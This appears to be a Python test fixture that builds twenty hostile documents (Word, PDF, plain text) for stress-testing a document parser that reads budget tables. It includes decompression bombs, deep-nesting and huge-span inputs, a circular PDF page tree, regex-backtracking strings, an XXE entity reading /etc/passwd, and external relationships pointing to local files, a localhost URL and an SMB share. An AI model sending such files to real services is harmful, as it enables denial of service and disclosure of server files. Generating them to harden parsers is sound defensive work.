"""Documents (.docx, .pdf, .txt, .md) that try to stop, hang or bloat whoever reads them, made when they are needed."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

Attack = Callable[[], bytes]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
TABLE = (
    ("Uraian", "Anggaran", "Realisasi"),
    ("Belanja A", "1.000.000", "500.000"),
    ("Belanja B", "2.000.000", "700.000"),
    ("Jumlah", "3.000.000", "1.200.000"),
)


def word(body: str, *, relations: str = "", head: str = "") -> bytes:
    """A Word document with a body."""
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/officeDocument" '
        'Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}" xmlns:r="{OFFICE}"><w:body>{body}'
        "</w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{relations}</Relationships>',
    }
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, text in parts.items():
            package.writestr(name, text)
    return target.getvalue()


def paragraph(text: str) -> str:
    """A paragraph element."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def table(first_row: str = "") -> str:
    """A sound table element; `first_row` goes into the properties of its first row."""
    rows = [
        f"<w:tr>{first_row if not n else ''}" + "".join(f"<w:tc>{paragraph(t)}</w:tc>" for t in row) + "</w:tr>"
        for n, row in enumerate(TABLE)
    ]
    return f"<w:tbl>{''.join(rows)}</w:tbl>"


def word_bomb() -> bytes:
    """Three hundred million blanks in the text part."""
    return word(table() + " " * 300_000_000)


def word_of_entities() -> bytes:
    """A text part that declares an external entity."""
    return word(paragraph("&x;") + table(), head='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


def word_with_external_relations() -> bytes:
    """Pictures, templates and frames that lie elsewhere."""
    targets = ("file:///etc/passwd", "http://127.0.0.1:9/a.png", "\\\\127.0.0.1\\share\\a.dotm")
    kinds = ("image", "attachedTemplate", "frame")
    relations = "".join(
        f'<Relationship Id="x{n}{k}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, target in enumerate(targets)
        for k, kind in enumerate(kinds)
    )
    return word(paragraph("Laporan kinerja") + table(), relations=relations)


def word_deep() -> bytes:
    """A hundred thousand elements in one another."""
    return word("<w:sdt><w:sdtContent>" * 50_000 + table() + "</w:sdtContent></w:sdt>" * 50_000)


def word_of_boxes_in_boxes() -> bytes:
    """Text boxes in text boxes: whoever reads each again for every box around it never ends."""
    box = table()
    for _ in range(40):
        box = f"<w:p><w:r><w:txbxContent>{box}</w:txbxContent></w:r></w:p>"
    return word(box)


def word_row_from_afar() -> bytes:
    """A row that begins in the milliardth column."""
    return word(table(f'<w:trPr><w:gridBefore w:val="{10**9}"/></w:trPr>'))


def word_cell_over_everything() -> bytes:
    """Rows of a hundred cells that each span a milliard columns."""
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{10**9}"/></w:tcPr>{paragraph("1.000")}</w:tc>'
    return word(f"<w:tbl>{f'<w:tr>{cell * 100}</w:tr>' * 100}</w:tbl>")


def word_without_a_document() -> bytes:
    """A package whose main part is something else than it says."""
    return _renamed(word(table()), "body", "numbering")


def _renamed(package: bytes, old: str, new: str) -> bytes:
    """A package whose main element has another name."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as source, zipfile.ZipFile(target, "w") as changed:
        for item in source.infolist():
            text = source.read(item)
            if item.filename == "word/document.xml":
                text = text.replace(f"w:{old}".encode(), f"w:{new}".encode())
            changed.writestr(item.filename, text)
    return target.getvalue()


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of some objects, numbered from 1."""
    body, offsets = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    xref = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % o for o in offsets
    )
    trailer = b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, root, len(body))
    return body + xref + trailer


def stream(content: bytes, filters: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), filters, content)


WORDS = b"BT /F1 9 Tf 50 700 Td (Realisasi anggaran sebesar Rp1.000.000,00) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pages(count: int, content: bytes) -> bytes:
    """A PDF of many pages that share one content; its object is given whole."""
    kids = b" ".join(b"%d 0 R" % n for n in range(5, 5 + count))
    fonts = b"/Resources << /Font << /F1 4 0 R >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R %s >>" % fonts
    catalogue = b"<< /Type /Catalog /Pages 2 0 R >>"
    tree = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    return pdf([catalogue, tree, content, FONT, *[page] * count])


def pdf_of_ten_thousand_pages() -> bytes:
    """Ten thousand pages in a file of 1.5 MB."""
    return pages(10_000, stream(WORDS))


def pdf_packed_twice() -> bytes:
    """A stream that unpacks to half a megabyte, which unpacks to half a gigabyte."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * 2**24) for _ in range(32)) + packer.flush()
    return pages(1, stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def pdf_with_a_wrong_sum() -> bytes:
    """A packed stream of 2 MB whose end is damaged: the parser's own way of mending takes hours."""
    packed = zlib.compress(bytes(n * n % 251 for n in range(4_000_000)), 0)
    return pages(1, stream(packed[:-4] + b"\0\0\0\0", b"/Filter /FlateDecode"))


def pdf_of_open_brackets() -> bytes:
    """A million arrays in one another."""
    return pages(1, stream(b"[" * 1_000_000 + WORDS))


def pdf_tree_in_a_circle() -> bytes:
    """A tree of pages that holds itself."""
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"])


def pdf_of_endless_characters() -> bytes:
    """A page of twenty million characters in 40 KB."""
    line = b"BT /F1 9 Tf 50 700 Td (" + b"1" * 1_000_000 + b") Tj ET\n"
    return pages(1, stream(zlib.compress(line * 20, 9), b"/Filter /FlateDecode"))


def text_of_tables_far_down() -> bytes:
    """A thousand tables at the end of a text of a hundred thousand lines, each on the lines that it has there."""
    rows = "\n".join("\t".join(row) for row in TABLE)
    return ("\n" * 80_000 + f"Belanja tahun ini.\n\n\n\n\n{rows}\n\n\n\n\n\n" * 1000).encode()


def text_of_a_wide_row() -> bytes:
    """Lines of a hundred thousand cells."""
    return ("| Uraian " + "| 1.000 " * 100_000 + "|\n").encode() * 4


def text_of_wide_columns() -> bytes:
    """Lines of fifty thousand figures that white space sets apart."""
    return ("Belanja  " + "1.000  " * 50_000 + "\n").encode() * 4


def text_of_ragged_figures() -> bytes:
    """Twenty thousand lines whose figures stand under one another nowhere."""
    return "\n".join("a" + " " * (3 + 7 * n % 1000) + "1.000" for n in range(20_000)).encode()


def text_of_one_sentence() -> bytes:
    """A sentence of a million characters, full of figures that words of performance lead to."""
    return ("Realisasi capaian kinerja sebesar 87,50% dari target 90% " * 18_000).encode()


def text_of_numbers_that_go_on() -> bytes:
    """Cells that a pattern for numbers can take apart in milliards of ways."""
    rows = "\t".join(["1" + ".1" * 150 + " x", "1" + " " * 300 + "x", "1" + ". 1" * 100 + " x"])
    return f"Uraian\tAnggaran\tRealisasi\n{rows}\n{rows}\n{rows}\n".encode()


DOCUMENT_ATTACKS: dict[str, Attack] = {
    made.__name__: made
    for made in (
        word_bomb, word_of_entities, word_with_external_relations, word_deep, word_of_boxes_in_boxes,
        word_row_from_afar, word_cell_over_everything, word_without_a_document, pdf_of_ten_thousand_pages,
        pdf_packed_twice, pdf_with_a_wrong_sum, pdf_of_open_brackets, pdf_tree_in_a_circle,
        pdf_of_endless_characters, text_of_tables_far_down, text_of_a_wide_row, text_of_wide_columns,
        text_of_ragged_figures, text_of_one_sentence, text_of_numbers_that_go_on,
    )
}  # fmt: skip
